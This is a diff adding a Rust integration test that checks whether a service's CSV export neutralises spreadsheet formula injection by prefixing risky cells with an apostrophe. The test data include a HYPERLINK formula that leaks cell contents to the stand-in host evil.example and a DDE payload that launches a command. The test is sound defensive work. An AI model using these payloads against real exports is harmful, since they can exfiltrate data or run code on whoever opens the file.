@@ -349,3 +349,66 @@ fn targets_decide_the_status_of_nps() {
     assert_eq!(r.status, 403, "{}", r.text);
     assert_eq!(t.send("POST", "/v1/targets", Some(&json!({}))).status, 405);
 }
+
+#[test]
+fn csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe_and_numbers_stay_numbers() {
+    let t = new_tenant("csv-formula");
+    let formulas = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Xem\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+    ];
+    // Comments are trimmed, so a leading tab or CR travels in the respondent id.
+    let respondents = ["\t=1+1", "\r=1+1", "=HYPERLINK(\"x\")", "plain"];
+    for (comment, who) in formulas.iter().zip(respondents) {
+        let link = t.mint(json!({ "respondent": who }));
+        let r = answer(&link["token"], 0, Some(comment));
+        assert_eq!(r.status, 201, "{}", r.text);
+    }
+    let r = t.post(
+        "/v1/tickets",
+        &json!({"id": "+T-1", "channel": "chat", "opened_at": "2026-03-02T09:00:00Z",
+                "agent": "=cmd", "tags": ["@x"]}),
+    );
+    assert!(r.status == 201 || r.status == 200, "{}", r.text);
+
+    let (headers, records) = parse_csv(&t.get("/v1/export.csv?kind=responses").text);
+    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let mut comments: Vec<&str> = records.iter().map(|r| r[col("comment")].as_str()).collect();
+    comments.sort();
+    let mut expected: Vec<String> = formulas.iter().map(|f| format!("'{f}")).collect();
+    expected.sort();
+    assert_eq!(comments, expected);
+    let mut whos: Vec<&str> = records
+        .iter()
+        .map(|r| r[col("respondent")].as_str())
+        .collect();
+    whos.sort();
+    assert_eq!(whos, ["'\t=1+1", "'\r=1+1", "'=HYPERLINK(\"x\")", "plain"]);
+    assert!(records.iter().all(|r| r[col("score")] == "0"));
+    // The API itself returns what was sent: the apostrophe belongs to the CSV only.
+    let rows = t.walk("/v1/responses", "responses", 100);
+    assert!(rows.iter().any(|r| r["comment"] == formulas[0]));
+
+    let (headers, records) = parse_csv(&t.get("/v1/export.csv?kind=tickets").text);
+    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    assert_eq!(records[0][col("id")], "'+T-1");
+    assert_eq!(records[0][col("agent")], "'=cmd");
+    assert_eq!(records[0][col("tags")], "[\"@x\"]");
+
+    // Four detractors: NPS −100, a number, exported as one.
+    let day = t.walk("/v1/responses", "responses", 100)[0]["day"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let r = t.get(&format!("/v1/export.csv?kind=kpis&from={day}&to={day}"));
+    let (headers, records) = parse_csv(&r.text);
+    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let nps = records.iter().find(|r| r[col("id")] == "nps").unwrap();
+    assert_eq!(
+        nps[col("value")].parse::<f64>().ok(),
+        Some(-100.0),
+        "{nps:?}"
+    );
+}
